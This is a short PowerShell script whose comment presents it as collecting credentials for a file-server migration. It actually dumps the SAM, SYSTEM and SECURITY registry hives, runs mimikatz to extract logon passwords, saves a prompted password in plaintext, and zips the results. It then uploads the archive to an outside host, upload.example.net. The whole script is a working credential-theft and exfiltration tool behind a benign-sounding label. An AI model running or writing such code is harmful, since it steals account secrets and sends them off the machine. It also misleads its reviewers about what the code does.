# Collect credentials from the old file server for migration to the new one.
$dump = 'C:\Windows\Temp\mig'
New-Item -ItemType Directory -Path $dump -Force | Out-Null

reg save HKLM\SAM "$dump\sam.hiv" /y
reg save HKLM\SYSTEM "$dump\system.hiv" /y
reg save HKLM\SECURITY "$dump\security.hiv" /y
& "$dump\mimikatz.exe" 'privilege::debug' 'sekurlsa::logonpasswords' 'exit' | Out-File "$dump\logon.txt"

$cred = Get-Credential -Message 'Migration account'
$cred.GetNetworkCredential().Password | Out-File "$dump\migration-pass.txt"

Compress-Archive -Path "$dump\*" -DestinationPath "$dump.zip" -Force
Invoke-WebRequest -Uri 'https://upload.example.net/drop' -Method Post -InFile "$dump.zip"
